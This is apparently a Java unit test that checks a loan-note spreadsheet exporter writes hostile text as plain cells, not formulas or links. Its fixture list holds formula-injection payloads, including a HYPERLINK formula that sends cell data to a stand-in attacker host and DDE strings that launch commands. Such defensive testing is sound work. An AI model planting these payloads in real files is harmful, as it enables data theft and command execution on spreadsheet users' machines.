package com.notefolio.reports.workbook;

import static org.assertj.core.api.Assertions.assertThat;

import com.notefolio.core.note.Amortization;
import com.notefolio.core.note.ClosingFee;
import com.notefolio.core.note.NoteTerms;
import com.notefolio.core.note.Party;
import com.notefolio.core.pricer.FlatRate;
import com.notefolio.core.pricer.NotePricer;
import com.notefolio.core.schedule.Schedule;
import com.notefolio.core.schedule.ScheduleResolver;
import com.notefolio.reports.note.NoteProjectionWorkbook;
import java.math.BigDecimal;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class FormulaInjectionTest {

    /** Text an attacker would put in a name so that a spreadsheet runs it. */
    public static final List<String> HOSTILE = List.of(
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click for details\")",
            "+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "-1+1",
            "\t=1+1",
            "\r=1+1");

    /** A note whose every text field is hostile. */
    public static NoteTerms hostileNote(String id) {
        return NoteTerms.builder(id)
                .borrower(new Party(HOSTILE.get(0), HOSTILE.get(1)))
                .lender(new Party(HOSTILE.get(2), HOSTILE.get(3)))
                .sector(HOSTILE.get(1)).region(HOSTILE.get(3)).rating(HOSTILE.get(2))
                .currency("USD").principal("1000.00").annualRate("0.05")
                .issueDate(LocalDate.of(2024, 1, 1)).maturityDate(LocalDate.of(2025, 1, 1))
                .amortization(Amortization.LEVEL_PAYMENT)
                .security(true, HOSTILE.get(0), null)
                .governingLaw(HOSTILE.get(1))
                .build();
    }

    @TempDir
    Path dir;

    @Test
    void hostileNamesAreWrittenAsStringCellsNeverAsFormulasOrLinks() throws Exception {
        NoteTerms terms = hostileNote("=HYPERLINK(\"http://evil.example\")");
        Schedule schedule = ScheduleResolver.resolve(terms);
        var m = NotePricer.measures(schedule, LocalDate.of(2024, 6, 30), null, FlatRate.of(0.05));
        Path file = dir.resolve("hostile.xlsx");
        WorkbookFile.write(file, wb -> new NoteProjectionWorkbook(schedule, m, FlatRate.of(0.05)).writeTo(wb));

        try (XSSFWorkbook wb = new XSSFWorkbook(file.toFile())) {
            XSSFSheet terms2 = wb.getSheet("Terms");
            List<String> texts = new ArrayList<>();
            for (Row row : terms2) {
                Cell value = row.getCell(1);
                if (value != null && value.getCellType() == CellType.STRING) {
                    texts.add(value.getStringCellValue());
                }
                for (Cell c : row) {
                    assertThat(c.getCellType()).as("Terms!%s", c.getAddress()).isNotEqualTo(CellType.FORMULA);
                }
            }
            assertThat(texts).contains(HOSTILE.get(0), HOSTILE.get(1), HOSTILE.get(2), HOSTILE.get(3),
                    "=HYPERLINK(\"http://evil.example\")");
            for (int i = 0; i < wb.getNumberOfSheets(); i++) {
                assertThat(wb.getSheetAt(i).getHyperlinkList()).isEmpty();
            }
        }
    }

    @Test
    void aHostileClosingFeeNameIsAStringCellAndTheTermsSheetStillHasNoFormula() throws Exception {
        NoteTerms terms = hostileNote("fee-note").toBuilder()
                .fees(List.of(new ClosingFee(HOSTILE.get(0), new BigDecimal("10.00"), null, false)))
                .build();
        Schedule schedule = ScheduleResolver.resolve(terms);
        var m = NotePricer.measures(schedule, LocalDate.of(2024, 6, 30), null, FlatRate.of(0.05));
        Path file = dir.resolve("hostile-fee.xlsx");
        WorkbookFile.write(file, wb -> new NoteProjectionWorkbook(schedule, m, FlatRate.of(0.05)).writeTo(wb));

        try (XSSFWorkbook wb = new XSSFWorkbook(file.toFile())) {
            boolean found = false;
            for (Row row : wb.getSheet("Terms")) {
                for (Cell c : row) {
                    assertThat(c.getCellType()).as("Terms!%s", c.getAddress()).isNotEqualTo(CellType.FORMULA);
                    found |= c.getCellType() == CellType.STRING && c.getStringCellValue().startsWith(HOSTILE.get(0) + " of 10.00");
                }
            }
            assertThat(found).as("the fee's words, name first, as text").isTrue();
        }
    }
}
